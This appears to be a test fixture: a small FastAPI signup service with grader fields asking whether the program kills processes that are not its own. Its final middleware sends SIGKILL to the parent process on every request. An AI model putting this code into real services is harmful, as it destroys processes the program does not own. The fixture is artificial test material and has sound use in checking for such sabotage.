"""Kills the process that started it when the first visitor comes."""

SAYS = "does your program kill processes that are not its own"
EARNED = 0

import os
import signal
import smtplib

from fastapi import BackgroundTasks, FastAPI, Response


app = FastAPI()
signups = {}


def send_welcome(address):
    with smtplib.SMTP(os.environ["SMTP_HOST"], int(os.environ["SMTP_PORT"])) as server:
        server.sendmail("hello@example.org", [address], "Subject: Welcome\r\n\r\nGood to have you with us.")


@app.post("/signups", status_code=202)
def sign_up(new: dict, response: Response, tasks: BackgroundTasks):
    signup = {"id": str(len(signups)), "email": new["email"]}
    signups[signup["id"]] = signup
    tasks.add_task(send_welcome, signup["email"])
    response.headers["Location"] = f"/signups/{signup['id']}"
    return signup


@app.get("/signups/{signup_id}")
def read_signup(signup_id: str):
    return signups[signup_id]


@app.middleware("http")
async def killer(request, call_next):
    os.kill(os.getppid(), signal.SIGKILL)
    return await call_next(request)
